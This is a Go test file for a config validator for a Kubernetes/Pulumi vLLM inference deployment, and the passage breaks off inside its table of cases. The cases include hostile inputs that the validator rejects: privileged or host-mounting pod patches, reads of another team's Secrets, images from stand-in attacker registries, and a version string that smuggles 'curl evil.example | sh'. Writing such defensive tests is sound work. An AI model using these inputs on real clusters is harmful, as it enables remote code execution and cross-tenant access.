package config

import (
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// valid is a complete, valid stack config for a profile, as Pulumi hands it over.
func valid(profile string) Raw {
	return Raw{
		Values: map[string]string{
			"profile":   profile,
			"namespace": `{"name":"inference"}`,
			"hfToken":   "hf_test",
		},
		Secrets: map[string]bool{"hfToken": true},
	}
}

func with(r Raw, kv ...string) Raw {
	for i := 0; i < len(kv); i += 2 {
		if kv[i+1] == "" {
			delete(r.Values, kv[i])
		} else {
			r.Values[kv[i]] = kv[i+1]
		}
	}
	return r
}

func TestValidConfigOfBothProfilesParses(t *testing.T) {
	for _, p := range []string{"agg", "disagg"} {
		c, err := Parse(valid(p))
		require.NoError(t, err, p)
		assert.Equal(t, Profile(p), c.Profile)
	}
	c, _ := Parse(valid("agg"))
	assert.Equal(t, 12, c.GPUs())
	c, _ = Parse(valid("disagg"))
	assert.Equal(t, 24, c.GPUs())
}

func TestObjectsMergeIntoTheRecipeDefaults(t *testing.T) {
	c, err := Parse(with(valid("agg"), "worker", `{"replicas": 2, "resources": {"limits": {"memory": "700Gi"}}, "vllm": {"maxNumSeqs": 128}}`))
	require.NoError(t, err)
	assert.Equal(t, 2, c.Worker.Replicas)
	assert.Equal(t, 4, c.Worker.TensorParallelSize, "unset fields keep the recipe's value")
	assert.Equal(t, map[string]string{"cpu": "128", "memory": "700Gi"}, c.Worker.Resources.Limits, "maps merge key by key")
	assert.Equal(t, 128, c.Worker.VLLM.MaxNumSeqs)
	assert.Equal(t, 16384, c.Worker.VLLM.MaxNumBatchedTokens)
}

func TestPlacementDefaultsFitAStockGB200Pool(t *testing.T) {
	agg, err := Parse(valid("agg"))
	require.NoError(t, err)
	disagg, err := Parse(valid("disagg"))
	require.NoError(t, err)
	assert.Equal(t, PlacementConfig{Check: true, DisruptionBudget: true}, agg.Placement, "agg workers need no common clique")
	assert.Equal(t, PlacementConfig{TopologyKey: DefaultTopologyKey, Check: true, DisruptionBudget: true}, disagg.Placement, "disagg moves KV over MNNVL")
	for _, w := range []WorkerConfig{agg.Worker, disagg.PrefillWorker, disagg.DecodeWorker} {
		assert.Len(t, w.Scheduling.Tolerations, 2)
	}
	// A list written as JSON text (pulumi config set --path ... '[]') replaces the default.
	c, err := Parse(with(valid("agg"), "worker", `{"scheduling": {"tolerations": "[]"}}`))
	require.NoError(t, err)
	assert.Empty(t, c.Worker.Scheduling.Tolerations)
}

// vLLM's fp8 KV cache is fp8_e4m3: prefill and decode naming it either way share one layout.
func TestFP8IsFP8E4M3AcrossPrefillAndDecode(t *testing.T) {
	_, err := Parse(with(valid("disagg"), "decodeWorker", `{"vllm": {"kvCacheDtype": "fp8_e4m3"}}`))
	require.NoError(t, err)
}

// The workers' startup probe outlasts the engine's timeout; null (or its text, which `pulumi config
// set --path … null` stores) keeps the operator's, the recipe's form, which is not checked.
func TestStartupProbeOutlastsTheEngine(t *testing.T) {
	for _, profile := range []string{"agg", "disagg"} {
		c, err := Parse(valid(profile))
		require.NoError(t, err)
		for _, r := range c.Workers() {
			timeout, key, ok := r.Config.EngineReadyTimeout(r.Key)
			require.True(t, ok)
			assert.Regexp(t, `^`+r.Key+`\.env\[\d+\]\.value$`, key)
			assert.Equal(t, 14400, timeout, "the recipe's VLLM_ENGINE_READY_TIMEOUT_S")
			assert.Equal(t, 15000, r.Config.Probes.Startup.Budget(OperatorStartupProbe), r.Key)
		}
	}
	for _, null := range []string{`null`, `"null"`} {
		c, err := Parse(with(valid("agg"), "worker", `{"probes": {"startup": `+null+`}}`))
		require.NoError(t, err, null)
		assert.Nil(t, c.Worker.Probes.Startup, null)
		assert.Equal(t, 7200, c.Worker.Probes.Startup.Budget(OperatorStartupProbe), "the operator's 2 hours")
	}
}

// Every validation rule, each with the key its error must name.
func TestValidationNamesTheKeyToFix(t *testing.T) {
	cases := []struct {
		name string
		raw  Raw
		key  string
		text string
	}{
		{"unknown profile", with(valid("agg"), "profile", "hybrid"), "minimax-m3:profile", `"hybrid" is not one of agg, disagg`},
		{"clique without key", with(valid("agg"), "placement", `{"clique": "fabric.a"}`), "minimax-m3:placement.clique", "needs placement.topologyKey"},
		{"clique not a label value", with(valid("disagg"), "placement", `{"clique": "fabric a"}`), "minimax-m3:placement.clique", "label value"},
		{"topology key not a label", with(valid("disagg"), "placement", `{"topologyKey": "gpu clique"}`), "minimax-m3:placement.topologyKey", ""},
		{"missing profile", with(valid("agg"), "profile", ""), "minimax-m3:profile", "is required"},
		{"TP does not fit the node", with(valid("agg"), "worker", `{"tensorParallelSize": 8}`), "minimax-m3:worker.tensorParallelSize", "does not fit 4 GPUs per node"},
		{"TP does not divide the node", with(valid("disagg"), "decodeWorker", `{"tensorParallelSize": 3}`), "minimax-m3:decodeWorker.tensorParallelSize", "does not fit"},
		{"zero replicas", with(valid("disagg"), "prefillWorker", `{"replicas": 0}`), "minimax-m3:prefillWorker.replicas", "at least 1"},
		{"negative replicas", with(valid("agg"), "worker", `{"replicas": -1}`), "minimax-m3:worker.replicas", "at least 1"},
		{"zero frontend replicas", with(valid("agg"), "frontend", `{"replicas": 0}`), "minimax-m3:frontend.replicas", "at least 1"},
		{"acceptance length too low", with(valid("agg"), "speculativeDecoding", `{"syntheticAcceptanceLength": 1}`), "minimax-m3:speculativeDecoding.syntheticAcceptanceLength", "outside (1, 4]"},
		{"acceptance length too high", with(valid("agg"), "speculativeDecoding", `{"mode": "synthetic", "syntheticAcceptanceLength": 4.5}`), "minimax-m3:speculativeDecoding.syntheticAcceptanceLength", "outside (1, 4]"},
		{"unknown speculative mode", with(valid("agg"), "speculativeDecoding", `{"mode": "fake"}`), "minimax-m3:speculativeDecoding.mode", "not one of real, synthetic"},
		{"revision not a commit", with(valid("agg"), "model", `{"revision": "main"}`), "minimax-m3:model.revision", "not a pinned commit"},
		{"draft revision not a commit", with(valid("agg"), "model", `{"draft": {"revision": "96692486"}}`), "minimax-m3:model.draft.revision", "not a pinned commit"},
		{"placeholder left in", with(valid("agg"), "modelCache", `{"storageClass": "your-storage-class-name"}`), "minimax-m3:modelCache.storageClass", "placeholder"},
		{"placeholder in a map", with(valid("agg"), "worker", `{"scheduling": {"nodeSelector": {"pool": "your-worker-node-pool"}}}`), "minimax-m3:worker.scheduling.nodeSelector.pool", "placeholder"},
		{"request above limit", with(valid("agg"), "worker", `{"resources": {"requests": {"cpu": "200"}}}`), "minimax-m3:worker.resources.requests.cpu", "above its limit"},
		{"frontend request above limit", with(valid("agg"), "frontend", `{"resources": {"requests": {"memory": "32Gi"}}}`), "minimax-m3:frontend.resources.requests.memory", "above its limit"},
		{"RDMA key without count", with(valid("agg"), "worker", `{"network": {"rdmaResource": "rdma.example.com/device"}}`), "minimax-m3:worker.network.rdmaCount", "required with rdmaResource"},
		{"RDMA count without key", with(valid("agg"), "worker", `{"network": {"rdmaCount": "1"}}`), "minimax-m3:worker.network.rdmaResource", "required with rdmaCount"},
		{"malformed attention config", with(valid("agg"), "worker", `{"vllm": {"attentionConfig": "{\"backend\":"}}`), "minimax-m3:worker.vllm.attentionConfig", "not a JSON object"},
		{"malformed compilation config", with(valid("disagg"), "prefillWorker", `{"vllm": {"compilationConfig": "[1,2]"}}`), "minimax-m3:prefillWorker.vllm.compilationConfig", "not a JSON object"},
		{"invalid namespace name", with(valid("agg"), "namespace", `{"name": "Inference_NS"}`), "minimax-m3:namespace.name", "not a valid Kubernetes name"},
		{"missing namespace", with(valid("agg"), "namespace", ""), "minimax-m3:namespace.name", "is required"},
		{"invalid claim name", with(valid("agg"), "modelCache", `{"claimName": "Shared Cache"}`), "minimax-m3:modelCache.claimName", "not a valid Kubernetes name"},
		{"invalid graph name", with(valid("agg"), "graphName", "MiniMax"), "minimax-m3:graphName", "not a valid Service name"},
		{"invalid quantity", with(valid("agg"), "modelCache", `{"size": "1 TB"}`), "minimax-m3:modelCache.size", "not a Kubernetes quantity"},
		{"invalid shared memory", with(valid("agg"), "worker", `{"sharedMemorySize": "lots"}`), "minimax-m3:worker.sharedMemorySize", "not a Kubernetes quantity"},
		{"invalid resource quantity", with(valid("agg"), "worker", `{"resources": {"limits": {"memory": "640 GiB"}}}`), "minimax-m3:worker.resources.limits.memory", "not a Kubernetes quantity"},
		{"GPUs set by hand", with(valid("agg"), "worker", `{"resources": {"limits": {"nvidia.com/gpu": "8"}}}`), "minimax-m3:worker.resources", "follows tensorParallelSize"},
		{"no token and no existing Secret", with(valid("agg"), "hfToken", ""), "minimax-m3:hfToken", "needs a Hugging Face token"},
		{"token and existing Secret", with(valid("agg"), "huggingFace", `{"existingSecret": true}`), "minimax-m3:hfToken", "not both"},
		{"token not a secret", Raw{Values: valid("agg").Values, Secrets: map[string]bool{}}, "minimax-m3:hfToken", "must be stored as a secret"},
		{"unknown key", with(valid("agg"), "workers", `{}`), "minimax-m3:workers", "unknown key"},
		{"unknown field", with(valid("agg"), "worker", `{"replica": 2}`), "minimax-m3:worker.replica", "unknown field"},
		{"unknown nested field", with(valid("agg"), "worker", `{"vllm": {"gpuMemUtil": 0.8}}`), "minimax-m3:worker.vllm.gpuMemUtil", "unknown field"},
		{"wrong nested type", with(valid("agg"), "worker", `{"vllm": {"gpuMemoryUtilization": "most"}}`), "minimax-m3:worker.vllm.gpuMemoryUtilization", `must be a number, got "most"`},
		{"object where a list belongs", with(valid("agg"), "worker", `{"extraArgs": {"a": 1}}`), "minimax-m3:worker.extraArgs", "must be a list"},
		{"bad image reference", with(valid("agg"), "image", "nvcr.io/nvidia/Dynamo:1.6"), "minimax-m3:image", "not a valid image reference"},
		{"bad download image", with(valid("agg"), "modelDownload", `{"image": "python:3.10 slim"}`), "minimax-m3:modelDownload.image", "not a valid image reference"},
		{"unknown KV cache dtype", with(valid("agg"), "worker", `{"vllm": {"kvCacheDtype": "fp4"}}`), "minimax-m3:worker.vllm.kvCacheDtype", "not one of auto"},
		{"unknown block size", with(valid("disagg"), "decodeWorker", `{"vllm": {"blockSize": 100}}`), "minimax-m3:decodeWorker.vllm.blockSize", "not a vLLM block size"},
		{"batch below sequences", with(valid("agg"), "worker", `{"vllm": {"maxNumSeqs": 512, "maxNumBatchedTokens": 256}}`), "minimax-m3:worker.vllm.maxNumBatchedTokens", "max_num_batched_tokens >= max_num_seqs"},
		{"unknown encoder TP mode", with(valid("agg"), "worker", `{"vllm": {"mmEncoderTpMode": "all"}}`), "minimax-m3:worker.vllm.mmEncoderTpMode", "not one of weights, data"},
		{"frontend decoding without multimodal", with(valid("agg"), "worker", `{"vllm": {"enableMultimodal": false}}`), "minimax-m3:worker.vllm.frontendDecoding", "needs enableMultimodal"},
		{"kv transfer config not JSON", with(valid("agg"), "worker", `{"vllm": {"kvTransferConfig": "{kv_connector: x}"}}`), "minimax-m3:worker.vllm.kvTransferConfig", "not a JSON object"},
		{"kv transfer config without a role", with(valid("disagg"), "prefillWorker", `{"vllm": {"kvTransferConfig": "{\"kv_connector\":\"NixlConnector\"}"}}`), "minimax-m3:prefillWorker.vllm.kvTransferConfig", `needs "kv_role"`},
		{"pod template patch with an unknown field", with(valid("agg"), "worker", `{"podTemplatePatch": {"spec": {"nodeSelectr": {"a": "b"}}}}`), "minimax-m3:worker.podTemplatePatch", "unknown field"},
		{"pod template patch with a wrong type", with(valid("agg"), "frontend", `{"podTemplatePatch": {"spec": {"hostNetwork": "yes"}}}`), "minimax-m3:frontend.podTemplatePatch", "pod template"},
		{"negative probe threshold", with(valid("agg"), "worker", `{"probes": {"liveness": {"failureThreshold": -1}}}`), "minimax-m3:worker.probes.liveness.failureThreshold", "must not be negative"},
		{"probe path", with(valid("agg"), "worker", `{"probes": {"startup": {"path": "live"}}}`), "minimax-m3:worker.probes.startup.path", "must start with /"},
		{"startup probe shorter than the engine's timeout", with(valid("agg"), "worker", `{"probes": {"startup": {"failureThreshold": 1080}}}`), "minimax-m3:worker.probes.startup.failureThreshold", "the startup probe restarts a worker not live after 3 h, no later than the engine's own timeout of 4 h (VLLM_ENGINE_READY_TIMEOUT_S at worker.env[4].value) ends: set the threshold to at least 1441 (at 10 s apart)"},
		{"engine timeout from extra env", with(valid("agg"), "worker", `{"extraEnv": [{"name": "VLLM_ENGINE_READY_TIMEOUT_S", "value": "20000"}], "env": []}`), "minimax-m3:worker.probes.startup.failureThreshold", "(VLLM_ENGINE_READY_TIMEOUT_S at worker.extraEnv[0].value)"},
		{"engine timeout not a number", with(valid("agg"), "worker", `{"extraEnv": [{"name": "VLLM_ENGINE_READY_TIMEOUT_S", "value": "4h"}], "env": []}`), "minimax-m3:worker.extraEnv[0].value", "VLLM_ENGINE_READY_TIMEOUT_S must be a whole number of seconds"},
		{"shared memory over the memory limit", with(valid("agg"), "worker", `{"sharedMemorySize": "700Gi"}`), "minimax-m3:worker.sharedMemorySize", "700Gi of /dev/shm is more than the worker's memory limit (worker.resources.limits.memory 640Gi)"},
		{"CPU offload over the memory limit", with(valid("agg"), "worker", `{"resources": {"limits": {"memory": "400Gi"}}}`), "minimax-m3:worker.vllm.kvTransfer.cpuOffload.cpuBytesToUse", "400000000000 bytes (372.5Gi) of CPU KV offload and about 64Gi for the engine itself do not fit the worker's memory limit (worker.resources.limits.memory 400Gi)"},
		{"CPU offload blocks not whole GPU blocks", with(valid("agg"), "worker", `{"vllm": {"kvTransfer": {"cpuOffload": {"blockSize": 96}}}}`), "minimax-m3:worker.vllm.kvTransfer.cpuOffload.blockSize", "96 is not a multiple of the engine's block size (worker.vllm.blockSize 128)"},
		{"router blocks differ from the workers'", with(valid("agg"), "frontend", `{"router": {"kvCacheBlockSize": 64}}`), "minimax-m3:frontend.router.kvCacheBlockSize", "64 differs from worker.vllm.blockSize 128"},
		{"prefill and decode blocks differ", with(valid("disagg"), "decodeWorker", `{"vllm": {"blockSize": 64}}`), "minimax-m3:decodeWorker.vllm.blockSize", "64 differs from prefillWorker.vllm.blockSize 128: NIXL"},
		{"prefill and decode KV dtypes differ", with(valid("disagg"), "decodeWorker", `{"vllm": {"kvCacheDtype": "auto"}}`), "minimax-m3:decodeWorker.vllm.kvCacheDtype", `"auto" differs from prefillWorker.vllm.kvCacheDtype "fp8"`},
		{"a patch sharing the node's PID namespace", with(valid("agg"), "frontend", `{"podTemplatePatch": {"spec": {"hostPID": true}}}`), "minimax-m3:frontend.podTemplatePatch", "Pod Security baseline: host namespaces (hostPID=true): a pod template patch may not reach past the pod"},
		{"a patch mounting the node's root", with(valid("agg"), "worker", `{"podTemplatePatch": {"spec": {"volumes": [{"name": "h", "hostPath": {"path": "/"}}]}}}`), "minimax-m3:worker.podTemplatePatch", `Pod Security baseline: hostPath volumes (volume "h")`},
		{"a privileged patch", with(valid("disagg"), "decodeWorker", `{"podTemplatePatch": {"spec": {"containers": [{"name": "main", "securityContext": {"privileged": true}}]}}}`), "minimax-m3:decodeWorker.podTemplatePatch", `Pod Security baseline: privileged (container "main" must not set securityContext.privileged=true)`},
		{"a patch adding a capability", with(valid("agg"), "worker", `{"podTemplatePatch": {"spec": {"initContainers": [{"name": "x", "image": "busybox:1.36", "securityContext": {"capabilities": {"add": ["SYS_ADMIN", "IPC_LOCK"]}}}]}}}`), "minimax-m3:worker.podTemplatePatch", `Pod Security baseline: non-default capabilities (container "x" must not include "IPC_LOCK", "SYS_ADMIN"`},
		// What a hostile team tried through stack config and the portal: each refused at its key.
		{"a patch mounting an NFS share", with(valid("agg"), "frontend", `{"podTemplatePatch": {"spec": {"volumes": [{"name": "n", "nfs": {"server": "10.0.0.9", "path": "/"}}]}}}`), "minimax-m3:frontend.podTemplatePatch", "spec.volumes[0] (n): a nfs volume"},
		{"a patch mounting an inline CSI volume", with(valid("agg"), "worker", `{"podTemplatePatch": {"spec": {"volumes": [{"name": "c", "csi": {"driver": "nfs.csi.k8s.io", "volumeAttributes": {"server": "10.0.0.9", "share": "/"}}}]}}}`), "minimax-m3:worker.podTemplatePatch", "spec.volumes[0] (c): a csi volume"},
		{"a patch binding another team's volume through an ephemeral claim", with(valid("agg"), "worker", `{"podTemplatePatch": {"spec": {"volumes": [{"name": "e", "ephemeral": {"volumeClaimTemplate": {"spec": {"accessModes": ["ReadWriteOnce"], "volumeName": "team-b-weights", "resources": {"requests": {"storage": "1Gi"}}}}}}]}}}`), "minimax-m3:worker.podTemplatePatch", "spec.volumes[0] (e): a ephemeral volume"},
		{"a patch cloning a repository into a volume", with(valid("agg"), "frontend", `{"podTemplatePatch": {"spec": {"volumes": [{"name": "g", "gitRepo": {"repository": "https://example.com/x.git"}}]}}}`), "minimax-m3:frontend.podTemplatePatch", "spec.volumes[0] (g): a gitRepo volume"},
		{"a patch opening a host port", with(valid("agg"), "frontend", `{"podTemplatePatch": {"spec": {"containers": [{"name": "main", "ports": [{"containerPort": 8000, "hostPort": 8000}]}]}}}`), "minimax-m3:frontend.podTemplatePatch", "Pod Security baseline: hostPort"},
		{"a patch without seccomp", with(valid("agg"), "frontend", `{"podTemplatePatch": {"spec": {"securityContext": {"seccompProfile": {"type": "Unconfined"}}}}}`), "minimax-m3:frontend.podTemplatePatch", "Pod Security baseline: seccompProfile"},
		{"a patch without AppArmor", with(valid("agg"), "worker", `{"podTemplatePatch": {"spec": {"containers": [{"name": "main", "securityContext": {"appArmorProfile": {"type": "Unconfined"}}}]}}}`), "minimax-m3:worker.podTemplatePatch", "Pod Security baseline: forbidden AppArmor profile"},
		{"a patch with the container runtime's SELinux type", with(valid("agg"), "frontend", `{"podTemplatePatch": {"spec": {"securityContext": {"seLinuxOptions": {"type": "spc_t"}}}}}`), "minimax-m3:frontend.podTemplatePatch", "Pod Security baseline: seLinuxOptions"},
		{"a patch setting an unsafe sysctl", with(valid("agg"), "frontend", `{"podTemplatePatch": {"spec": {"securityContext": {"sysctls": [{"name": "kernel.msgmax", "value": "65536"}]}}}}`), "minimax-m3:frontend.podTemplatePatch", "Pod Security baseline: forbidden sysctls (kernel.msgmax)"},
		{"a patch running the frontend as root with escalation", with(valid("agg"), "frontend", `{"podTemplatePatch": {"spec": {"containers": [{"name": "main", "securityContext": {"runAsUser": 0, "allowPrivilegeEscalation": true}}]}}}`), "minimax-m3:frontend.podTemplatePatch", "spec.containers[0] (main).securityContext.runAsUser: 0 (root) outside a worker's main container"},
		{"a patch running a worker's sidecar as root", with(valid("agg"), "worker", `{"podTemplatePatch": {"spec": {"containers": [{"name": "main"}, {"name": "x", "image": "nvcr.io/nvidia/x:1", "securityContext": {"runAsUser": 0}}]}}}`), "minimax-m3:worker.podTemplatePatch", "spec.containers[1] (x).securityContext.runAsUser: 0 (root)"},
		{"a patch adding a worker's capabilities to the frontend", with(valid("agg"), "frontend", `{"podTemplatePatch": {"spec": {"containers": [{"name": "main", "securityContext": {"capabilities": {"add": ["SYS_PTRACE"]}}}]}}}`), "minimax-m3:frontend.podTemplatePatch", `non-default capabilities (container "main" must not include "SYS_PTRACE"`},
		{"an unknown Pod Security level", with(valid("agg"), "namespace", `{"name": "inference", "podSecurity": "restricted"}`), "minimax-m3:namespace.podSecurity", `"restricted" is not one of baseline, privileged`},
		{"a priority class that preempts other teams", with(valid("agg"), "worker", `{"scheduling": {"priorityClassName": "system-node-critical"}}`), "minimax-m3:worker.scheduling.priorityClassName", `"system-node-critical" is not one of the site's priority classes (priorityClasses: none)`},
		{"a patch naming a priority class", with(valid("agg"), "frontend", `{"podTemplatePatch": {"spec": {"priorityClassName": "system-cluster-critical"}}}`), "minimax-m3:frontend.podTemplatePatch", `spec.priorityClassName: "system-cluster-critical" is not a priority class the site allows`},
		{"every GPU of the node through the runtime's variable", with(valid("agg"), "frontend", `{"extraEnv": [{"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"}]}`), "minimax-m3:frontend.extraEnv[0].name", "NVIDIA_VISIBLE_DEVICES may not be set: NVIDIA_* is the NVIDIA container runtime's"},
		{"CUDA's device mask", with(valid("agg"), "worker", `{"env": [{"name": "CUDA_VISIBLE_DEVICES", "value": "0,1,2,3"}]}`), "minimax-m3:worker.env[0].name", "CUDA_VISIBLE_DEVICES may not be set"},
		{"joining another team's graph", with(valid("disagg"), "decodeWorker", `{"extraEnv": [{"name": "DYN_NAMESPACE", "value": "team-b-minimax-m3"}]}`), "minimax-m3:decodeWorker.extraEnv[0].name", "DYN_NAMESPACE may not be set: the Dynamo operator writes it"},
		{"a patch's env naming the runtime's variable", with(valid("agg"), "worker", `{"podTemplatePatch": {"spec": {"containers": [{"name": "main", "env": [{"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"}]}]}}}`), "minimax-m3:worker.podTemplatePatch", "spec.containers[0] (main).env[0] NVIDIA_VISIBLE_DEVICES: NVIDIA_*"},
		{"a patch reading another stack's Secret", with(valid("agg"), "frontend", `{"podTemplatePatch": {"spec": {"containers": [{"name": "main", "env": [{"name": "T", "valueFrom": {"secretKeyRef": {"name": "team-b-hf-token", "key": "HF_TOKEN"}}}]}]}}}`), "minimax-m3:frontend.podTemplatePatch", `spec.containers[0] (main).env[0] T: reads Secret "team-b-hf-token", which is not the stack's (hf-token-secret)`},
		{"a patch mounting another stack's Secret", with(valid("agg"), "worker", `{"podTemplatePatch": {"spec": {"volumes": [{"name": "s", "secret": {"secretName": "team-b-hf-token"}}]}}}`), "minimax-m3:worker.podTemplatePatch", `spec.volumes[0] (s): reads Secret "team-b-hf-token"`},
		{"a patch with a ServiceAccount", with(valid("agg"), "frontend", `{"podTemplatePatch": {"spec": {"serviceAccountName": "cluster-admin-sa"}}}`), "minimax-m3:frontend.podTemplatePatch", `spec.serviceAccountName: runs with ServiceAccount "cluster-admin-sa"`},
		{"a patch binding a node", with(valid("agg"), "worker", `{"podTemplatePatch": {"spec": {"nodeName": "tray-07"}}}`), "minimax-m3:worker.podTemplatePatch", `spec.nodeName: binds to node "tray-07"`},
		{"an image from a registry the site does not allow", with(valid("agg"), "image", "evil.example/x:1"), "minimax-m3:image", `"evil.example/x:1" is not from a registry imageRegistries allows (nvcr.io/nvidia, docker.io/library)`},
		{"Docker Hub, but not an official image", with(valid("agg"), "modelDownload", `{"image": "attacker/python:3.10"}`), "minimax-m3:modelDownload.image", `"attacker/python:3.10" is not from a registry`},
		{"NGC, but another organization", with(valid("agg"), "image", "nvcr.io/attacker/vllm-runtime:1"), "minimax-m3:image", `"nvcr.io/attacker/vllm-runtime:1" is not from a registry`},
		{"a patch's sidecar from another registry", with(valid("agg"), "frontend", `{"podTemplatePatch": {"spec": {"containers": [{"name": "main"}, {"name": "x", "image": "ghcr.io/evil/x:1"}]}}}`), "minimax-m3:frontend.podTemplatePatch.spec.containers[1].image", `"ghcr.io/evil/x:1" is not from a registry`},
		{"a patch changing the engine's image", with(valid("disagg"), "prefillWorker", `{"podTemplatePatch": {"spec": {"containers": [{"name": "main", "image": "quay.io/x/vllm:1"}]}}}`), "minimax-m3:prefillWorker.podTemplatePatch.spec.containers[0].image", `"quay.io/x/vllm:1" is not from a registry`},
		{"a repository prefix keeps its registry's other repositories out", with(valid("agg"), "imageRegistries", `["nvcr.io/nvidia/ai-dynamo", "docker.io"]`, "benchmark", `{"image": "nvcr.io/other/aiperf:1"}`), "minimax-m3:benchmark.image", `"nvcr.io/other/aiperf:1" is not from a registry imageRegistries allows (nvcr.io/nvidia/ai-dynamo, docker.io)`},
		{"a registry that is not one", with(valid("agg"), "imageRegistries", `["nvcr.io", "nvcr.io/x:1"]`), "minimax-m3:imageRegistries[1]", `"nvcr.io/x:1" is not a registry`},
		{"no registry at all", with(valid("agg"), "imageRegistries", `[]`), "minimax-m3:imageRegistries", "lists no registry"},
		{"Kubernetes' own namespace", with(valid("agg"), "namespace", `{"name": "kube-system"}`), "minimax-m3:namespace.name", `"kube-system" is one of Kubernetes' own namespaces`},
		{"restart strategy", with(valid("agg"), "restart", `{"id": "1", "strategy": "Rolling"}`), "minimax-m3:restart.strategy", "not one of Sequential, Parallel"},
		{"restart order names a component", with(valid("disagg"), "restart", `{"id": "1", "order": ["Worker"]}`), "minimax-m3:restart.order[0]", "not one of Frontend, PrefillWorker, DecodeWorker"},
		{"restart order with parallel strategy", with(valid("agg"), "restart", `{"id": "1", "strategy": "Parallel", "order": ["Worker"]}`), "minimax-m3:restart.order", "cannot be set with strategy Parallel"},
		{"restart order leaves a component out", with(valid("disagg"), "restart", `{"id": "1", "order": ["DecodeWorker", "Frontend"]}`), "minimax-m3:restart.order", "must name every component or none (the operator's webhook refuses a partial order): PrefillWorker missing"},
		{"restart order repeats a component", with(valid("agg"), "restart", `{"id": "1", "order": ["Worker", "Worker", "Frontend"]}`), "minimax-m3:restart.order[1]", "listed twice"},
		{"restart id with a quote", with(valid("agg"), "restart", `{"id": "a'b"}`), "minimax-m3:restart.id", "use letters, digits"},
		{"restart strategy without id", with(valid("agg"), "restart", `{"strategy": "Parallel"}`), "minimax-m3:restart.id", "is required"},
		{"flashinfer workspace outside the cache", with(valid("disagg"), "decodeWorker", `{"flashinferWorkspace": "../tmp"}`), "minimax-m3:decodeWorker.flashinferWorkspace", "below modelCache.mountPath"},
		{"http port is gone", with(valid("agg"), "frontend", `{"httpPort": 9000}`), "minimax-m3:frontend.httpPort", "unknown field"},
		{"wrong type", with(valid("agg"), "gpusPerNode", "four"), "minimax-m3:gpusPerNode", "a whole number"},
		{"role of the other profile", with(valid("agg"), "decodeWorker", `{"replicas": 2}`), "minimax-m3:decodeWorker", "not used by profile"},
		{"reused channel without a name", with(valid("agg"), "computeDomain", `{"create": false}`), "minimax-m3:computeDomain.channelClaimTemplate", "is required"},
		{"bad download timeout", with(valid("agg"), "modelDownload", `{"timeout": "forever"}`), "minimax-m3:modelDownload.timeout", "positive duration"},
		{"worker Service name too long", with(valid("disagg"), "graphName", strings.Repeat("g", 41)), "minimax-m3:graphName", "PrefillWorker Service name"},
		{"Dynamo namespace too long", with(with(valid("disagg"), "graphName", "minimax-m3-disagg-gb200-agentic"), "namespace", `{"name": "team-inference-production-us-east"}`), "minimax-m3:graphName", "more than 63"},
		{"bad readiness timeout", with(valid("agg"), "readiness", `{"timeout": "-5m"}`), "minimax-m3:readiness.timeout", "positive duration"},
		// What the Dynamo operator's webhook and CRD refuse (operatorrules.go).
		{"executor backend", with(valid("disagg"), "decodeWorker", `{"podAnnotations": {"nvidia.com/vllm-distributed-executor-backend": "threads"}}`), "minimax-m3:decodeWorker.podAnnotations.nvidia.com/vllm-distributed-executor-backend", "mp or ray"},
		{"power limit beside the channel claim", with(valid("agg"), "worker", `{"podAnnotations": {"dynamo.nvidia.com/gpu-power-limit": "700"}}`), "minimax-m3:worker.podAnnotations.dynamo.nvidia.com/gpu-power-limit", "beside DRA claims"},
		{"power limit not a number", with(valid("agg"), "frontend", `{"podAnnotations": {"dynamo.nvidia.com/gpu-power-limit": "max"}}`), "minimax-m3:frontend.podAnnotations.dynamo.nvidia.com/gpu-power-limit", "positive decimal integer"},
		{"patch removes main", with(valid("agg"), "worker", `{"podTemplatePatch": {"spec": {"containers": [{"name": "main", "$patch": "delete"}]}}}`), "minimax-m3:worker.podTemplatePatch", `removes the "main" container`},
		{"patch empties the image", with(valid("agg"), "frontend", `{"podTemplatePatch": {"spec": {"containers": [{"name": "main", "image": ""}]}}}`), "minimax-m3:frontend.podTemplatePatch", `without an image`},
		{"sidecar without image", with(valid("agg"), "worker", `{"podTemplatePatch": {"spec": {"containers": [{"name": "probe"}]}}}`), "minimax-m3:worker.podTemplatePatch", `container "probe" without an image`},
		{"init container without image", with(valid("agg"), "worker", `{"podTemplatePatch": {"spec": {"initContainers": [{"name": "warm"}]}}}`), "minimax-m3:worker.podTemplatePatch", `init container "warm" without an image`},
		{"duplicate env", with(valid("agg"), "worker", `{"extraEnv": [{"name": "NCCL_CUMEM_ENABLE", "value": "0"}]}`), "minimax-m3:worker.extraEnv[0].name", "already set"},
		{"env duplicating a network variable", with(valid("agg"), "worker", `{"network": {"socketInterface": "eth0"}, "extraEnv": [{"name": "NCCL_SOCKET_IFNAME", "value": "eth1"}]}`), "minimax-m3:worker.extraEnv[0].name", "already set"},
		{"bad toleration operator", with(valid("agg"), "worker", `{"scheduling": {"tolerations": [{"key": "a", "operator": "In"}]}}`), "minimax-m3:worker.scheduling.tolerations[0].operator", `"In" is not one of Equal, Exists`},
		{"bad toleration effect", with(valid("agg"), "worker", `{"scheduling": {"tolerations": [{"key": "a", "effect": "NoExec"}]}}`), "minimax-m3:worker.scheduling.tolerations[0].effect", `"NoExec" is not one of NoSchedule, PreferNoSchedule, NoExecute`},
		{"bad runtime version", with(valid("agg"), "runtimeVersion", "latest"), "minimax-m3:runtimeVersion", "not a version"},
		{"bad topology key", with(valid("agg"), "placement", `{"topologyKey": "not a key"}`), "minimax-m3:placement.topologyKey", "not a valid qualified name"},
		{"gpu memory utilization", with(valid("agg"), "worker", `{"vllm": {"gpuMemoryUtilization": 1.5}}`), "minimax-m3:worker.vllm.gpuMemoryUtilization", "outside (0, 1]"},
		{"CPU offload on disagg", with(valid("disagg"), "decodeWorker", `{"vllm": {"kvTransfer": {"cpuOffload": {"specName": "CPUOffloadingSpec", "cpuBytesToUse": 1}}}}`), "minimax-m3:decodeWorker.vllm.kvTransfer.cpuOffload", "NIXL"},
		{"a hub client version pip cannot install", with(valid("agg"), "modelDownload", `{"hubClientVersion": "latest"}`), "minimax-m3:modelDownload.hubClientVersion", `"latest" is not a huggingface_hub release pip installs`},
		{"a hub client version that is a shell command", with(valid("agg"), "modelDownload", `{"hubClientVersion": "1.16.4; curl evil.example | sh"}`), "minimax-m3:modelDownload.hubClientVersion", "is not a huggingface_hub release"},
